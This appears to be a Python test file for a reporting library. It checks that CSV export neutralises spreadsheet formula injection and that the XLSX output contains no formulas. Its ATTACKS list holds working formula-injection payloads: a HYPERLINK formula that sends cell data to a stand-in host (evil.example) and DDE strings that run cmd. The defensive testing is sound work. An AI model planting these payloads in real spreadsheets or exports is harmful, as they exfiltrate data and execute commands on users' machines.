"""CSV formula injection (issue 12 class 5): text a spreadsheet would run is written as text;
numbers written as text stay numbers; the XLSX output is safe by construction (typed cells)."""

from __future__ import annotations

import csv
import zipfile
from pathlib import Path

import pandas as pd
import pytest

from indikator.report.csvsafe import is_formula_like, neutralise, write_csv
from indikator.report.workbook import write_workbook

ATTACKS = [
    '=HYPERLINK("http://evil.example/?x="&A1;"klik")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "=cmd|'/C calc'!A0",
]


@pytest.mark.parametrize("text", ATTACKS)
def test_attacks_are_neutralised(text: str) -> None:
    assert is_formula_like(text)
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("text", ["-2,5", "-2.5", "+3", "-0,125", "-1,5E-05", "12", "a = b",
                                  "Persentase (%)", "", "'already"])
def test_numbers_and_plain_text_are_unchanged(text: str) -> None:
    assert not is_formula_like(text)
    assert neutralise(text) == text


def test_write_csv_neutralises_every_text_cell_and_header(tmp_path: Path) -> None:
    frame = pd.DataFrame({
        "indikator": ATTACKS[:4],
        "target": ["-2,5", "10", "=1", None],
        "capaian": [-2.5, 1.0, float("nan"), 3.0],
        "=bad header": ["x", "y", "z", "w"],
    })
    path = write_csv(frame, tmp_path / "out.csv")
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # Excel's BOM kept
    rows = list(csv.reader(raw.decode("utf-8-sig").splitlines(), delimiter=";"))
    assert rows[0] == ["indikator", "target", "capaian", "'=bad header"]
    for row in rows[1:]:
        for cell in row:
            assert not is_formula_like(cell), row
    assert rows[1][1] == "-2,5" and rows[1][2] == "-2,5"  # numbers stay numbers
    assert rows[3][1] == "'=1"


def test_xlsx_output_has_no_formula(tmp_path: Path) -> None:
    results = pd.DataFrame({"indikator": ATTACKS, "satuan": ATTACKS, "pesan": ATTACKS,
                            "target": [1.0] * len(ATTACKS), "realisasi": [1.0] * len(ATTACKS)})
    path = write_workbook(tmp_path / "out.xlsx", results, unread=[], lang="en")
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                xml = archive.read(name).decode("utf-8")
                assert "<f>" not in xml and "<f " not in xml, name
    from openpyxl import load_workbook

    book = load_workbook(path)
    texts = {c.value for row in book.worksheets[0].iter_rows() for c in row
             if isinstance(c.value, str)}
    assert set(ATTACKS) & texts  # the text is there, as text
    assert all(c.data_type != "f" for ws in book.worksheets for row in ws.iter_rows()
               for c in row)
